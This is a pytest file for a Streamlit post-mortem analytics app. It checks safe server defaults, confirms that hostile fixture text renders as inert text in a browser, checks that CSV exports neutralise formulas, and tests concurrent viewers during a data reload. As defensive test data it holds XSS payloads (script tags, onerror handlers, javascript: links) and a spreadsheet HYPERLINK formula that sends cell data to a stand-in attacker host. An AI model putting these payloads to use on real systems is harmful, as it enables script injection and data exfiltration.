"""Serving: safe defaults, hostile post-mortems rendered as text in a real browser, and a few viewers
at once while the data reloads, each seeing the numbers of its own filter.

How fast many viewers are served is measured, not tested: ``benchmarks/viewers.py``."""

import asyncio
import csv
import gc
import io
import json
import re
import shutil
import sys
import threading
import time
import tomllib
from pathlib import Path
from urllib.parse import urlencode

import pytest

from browser_support import AS_OF, CHROMIUM, CHROMIUM_ARGS, ROOT, RUN_FINISHED, WAIT_MS, open_page, start_server
from pm_analytics.store import open_database

sys.path.insert(0, str(ROOT / "benchmarks"))

import corpus  # noqa: E402
import viewers  # noqa: E402

HOSTILE = ROOT / "tests" / "fixtures" / "hostile"
INJECTED = """() => ({
    handlers: document.querySelectorAll('[onerror], [onload], [onclick], [onmouseover]').length,
    frames: document.querySelectorAll('iframe').length,
    script_links: document.querySelectorAll('a[href^="javascript:"], a[href^="data:"], img[src^="data:image/svg"]').length,
    broken_images: document.querySelectorAll('img[src="x"]').length,
    pwned: document.body.getAttribute('data-pwned'),
    bold: Array.from(document.querySelectorAll('[data-testid="stMain"] b')).filter(b => /Mallory|Identity|bold/.test(b.textContent)).length,
})"""


def test_default_server_settings_are_safe():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["server"]["address"] == "127.0.0.1"
    assert config["browser"]["gatherUsageStats"] is False
    assert config["client"]["showSidebarNavigation"] is False
    sources = [p.read_text() for p in [ROOT / "app.py", *(ROOT / "pages").glob("*.py"), ROOT / "pm_analytics" / "ui.py"]]
    assert not any("file_uploader" in s or "unsafe_allow_html" in s for s in sources)


def test_script_runs_skip_streamlits_full_garbage_collection():
    """Streamlit's default collects all garbage after every script run, 0.1-0.2 s of the server's one
    Python thread per page run that every other viewer waits behind (benchmarks/viewers.py)."""
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["runner"]["postScriptGC"] is False


@pytest.fixture(scope="module")
def hostile_server(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile-data")
    for path in HOSTILE.iterdir():
        shutil.copy(path, folder / path.name)
    process, base = start_server(tmp_path_factory.mktemp("hostile"), {"PM_ANALYTICS_DATA": str(folder)})
    yield base
    process.terminate()
    process.wait(timeout=10)


@pytest.mark.parametrize("path", [
    "incident?id=2025-06-01-xss-markdown", "incident?id=INC-XSS-%3Cimg%20src%3Dx%20onerror%3Dalert(10)%3E",
    "incidents", "", "action_items", "data_quality",
])
def test_hostile_text_is_shown_as_text_in_the_browser(hostile_server, chromium, path):
    dialogs = []
    page = open_page(chromium, f"{hostile_server}/{path}{'&' if '?' in path else '?'}range=all&as_of={AS_OF}",
                     charts=False, dialogs=dialogs)
    try:
        page.mouse.move(400, 400)
        # The move's mouseover handlers have run once the page reports something hovered; any dialog they
        # opened is reported before this round trip returns.
        page.wait_for_function("() => document.querySelectorAll(':hover').length > 0", timeout=WAIT_MS)
        found = page.evaluate(INJECTED)
        assert found == {"handlers": 0, "frames": 0, "script_links": 0, "broken_images": 0, "pwned": None, "bold": 0}
        assert dialogs == []
        assert page.locator('[data-testid="stException"]').count() == 0
        if path.startswith("incident?id=2025"):
            text = page.locator('[data-testid="stMain"]').inner_text()
            assert "Checkout down <script>alert(1)</script>" in text, "the title reads as written"
            assert "[click me](javascript:alert(3))" in text
    finally:
        page.close()


@pytest.mark.parametrize("path, formula, tables", [
    ("incidents", '=HYPERLINK("http://attacker.example/?"&A1,"open")', 1),
    ("action_items", "-2+3", 2),
])
def test_a_downloaded_csv_never_carries_a_live_formula(hostile_server, chromium, path, formula, tables):
    page = open_page(chromium, f"{hostile_server}/{path}?range=all&as_of={AS_OF}", charts=False)
    try:
        cells = []
        buttons = page.locator('[data-testid="stDownloadButton"] button')
        # The browser may still be drawing the page's lower part (the chase list below a chart) when the
        # script run has ended: wait for the page's last table's button before counting them.
        buttons.nth(tables - 1).wait_for(timeout=WAIT_MS)
        assert buttons.count() == tables
        for index in range(tables):
            with page.expect_download(timeout=WAIT_MS) as download:
                buttons.nth(index).click()
            rows = list(csv.reader(io.StringIO(Path(download.value.path()).read_text())))
            cells += [cell for row in rows[1:] for cell in row]
        assert "'" + formula in cells, "the post-mortem's text is there, neutralised"
        assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or
                    c.startswith("-") and not c[1:].replace(".", "", 1).isdigit()]
    finally:
        page.close()


# -- a few viewers at once, during a reload ----------------------------------------

@pytest.fixture(scope="module")
def busy_folder(tmp_path_factory):
    folder = tmp_path_factory.mktemp("busy-data")
    corpus.generate(1500, folder, seed=3, workers=1)
    return folder


def new_database_written(cache, since_ns: int) -> bool:
    return any(db.stat().st_mtime_ns > since_ns for db in cache.glob("*.duckdb"))


async def open_view(page, url: str) -> None:
    """Open ``url`` and wait until the page's script run has ended and the page is drawn."""
    await page.goto(url, timeout=WAIT_MS)
    await page.wait_for_selector(RUN_FINISHED, state="attached", timeout=WAIT_MS)
    await page.wait_for_selector('[data-testid="stSidebar"] button:has-text("Reload")', timeout=WAIT_MS)
    await page.wait_for_selector('[data-testid="stStatusWidget"]', state="detached", timeout=WAIT_MS)


async def viewer(browser, base: str, query: str, reload_pressed: asyncio.Event, reload_done, seen: dict,
                 errors: list) -> None:
    """One viewer opens four pages with its filter in the URL. With ``reload_done``, it presses Reload
    after the first and waits until the new database is written; otherwise it starts once Reload is pressed."""
    if reload_done is None:
        await reload_pressed.wait()
    context = await browser.new_context(viewport={"width": 1280, "height": 900})
    page = await context.new_page()
    try:
        for path, _ in viewers.PAGES:
            await open_view(page, f"{base}/{path}?{query}")
            if await page.locator('[data-testid="stException"], [data-testid="stAlertContentError"]').count():
                errors.append((query, path, await page.locator('[data-testid="stMain"]').inner_text()))
            if path == "":
                values = page.locator('[data-testid="stMain"] [data-testid="stMetricValue"]')
                await values.nth(6).wait_for(timeout=WAIT_MS)  # the overview's seven headline cards
                seen[(query, path)] = await values.all_inner_texts()
            elif path == "incidents":
                caption = page.locator('[data-testid="stMain"] [data-testid="stCaptionContainer"]',
                                       has_text=re.compile(r"[\d,]+ post-mortems")).first
                await caption.wait_for(timeout=WAIT_MS)
                seen[(query, path)] = int(re.search(r"([\d,]+) post-mortems", await caption.inner_text())
                                          .group(1).replace(",", ""))
            if reload_done is not None and path == "":
                await page.get_by_role("button", name="Reload").click()
                reload_pressed.set()
                deadline = time.monotonic() + WAIT_MS / 1000
                while not reload_done():  # polls for the new database file, bounded
                    assert time.monotonic() < deadline, "Reload did not write a new database"
                    await asyncio.sleep(0.2)
    finally:
        reload_pressed.set()  # a viewer that failed before pressing must not leave the others waiting
        await context.close()


def test_viewers_during_a_reload_each_see_their_own_numbers(busy_folder, tmp_path):
    """Four browsers, each with its own severity x team filter, open four pages while half the files
    reload: no error, each sees the numbers of its own filter, and the reload writes a new database."""
    from playwright.async_api import async_playwright

    views = viewers.view_queries(sorted(name for name, _ in corpus.TEAMS), 4)
    queries = [urlencode(view) for view in views]
    process, base = start_server(tmp_path, {"PM_ANALYTICS_DATA": str(busy_folder)})
    cache = tmp_path / "cache"
    seen: dict = {}
    errors: list = []
    try:
        async def run():
            async with async_playwright() as playwright:
                browser = await playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
                first = await browser.new_page()
                await open_view(first, base)  # the first visit loads the folder
                await first.close()
                touched = time.time_ns()
                viewers.touch_half(busy_folder)
                reload_pressed = asyncio.Event()
                await asyncio.gather(*(
                    viewer(browser, base, query, reload_pressed,
                           (lambda: new_database_written(cache, touched)) if i == 0 else None, seen, errors)
                    for i, query in enumerate(queries)))
                await browser.close()
                return touched

        def target():
            try:
                outcome.append(asyncio.run(run()))
            except BaseException as exc:  # re-raised below, in the test's thread
                outcome.append(exc)

        # The sync Playwright of the other browser tests owns this thread's event loop.
        outcome: list = []
        runner = threading.Thread(target=target)
        runner.start()
        runner.join(timeout=3 * WAIT_MS / 1000)
        assert not runner.is_alive(), "the viewers did not finish"
        if isinstance(outcome[0], BaseException):
            raise outcome[0]
        assert errors == []
        assert new_database_written(cache, outcome[0]), "the reload wrote a new database"
    finally:
        process.terminate()
        process.wait(timeout=60)
    log = (tmp_path / "streamlit.log").read_text()
    assert "Traceback" not in log, log[-3000:]
    [db] = cache.glob("*.duckdb")
    con = open_database(db)
    expected = {query: viewers.expected_numbers(con, view) for query, view in zip(queries, views)}
    con.close()
    for query in queries:
        assert seen[(query, "")] == [value for _, value in expected[query][""]], query
        assert seen[(query, "incidents")] == expected[query]["incidents"], query
    assert len({tuple(seen[(q, "")]) for q in queries}) == len(queries), "four filters, four sets of numbers"


def test_the_viewers_log_never_waits_on_itself_when_a_collection_starts_inside_a_write(tmp_path):
    """``benchmarks/viewers.py`` logs every page run and every garbage collection of the server. A
    collection can start while a record is being written (any allocation with the log's lock held):
    logging it from the collector's callback took that lock again and deadlocked the thread (a reload's,
    in two of about forty runs). Here the callback is called with the lock held, as such a collection
    calls it; then a real collection is logged."""
    path = tmp_path / "timing.jsonl"
    log = viewers.RunLog(path)

    def write_while_collecting() -> None:
        log.write({"kind": "run", "i": 0})
        with log.lock:
            log.on_collection("start", {"generation": 0})
            log.on_collection("stop", {"generation": 0})

    writer = threading.Thread(target=write_while_collecting, daemon=True)
    writer.start()
    writer.join(timeout=300)
    assert not writer.is_alive(), "a write waited for itself"
    gc.callbacks.append(log.on_collection)
    try:
        gc.collect(1)
    finally:
        gc.callbacks.remove(log.on_collection)
    log.write({"kind": "run", "i": 1})
    log.close()
    records = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    assert [r["i"] for r in records if r["kind"] == "run"] == [0, 1]
    assert [r["generation"] for r in records if r["kind"] == "gc"] == [0, 1]
    assert all(r["finished_at"] >= r["started_at"] for r in records if r["kind"] == "gc")
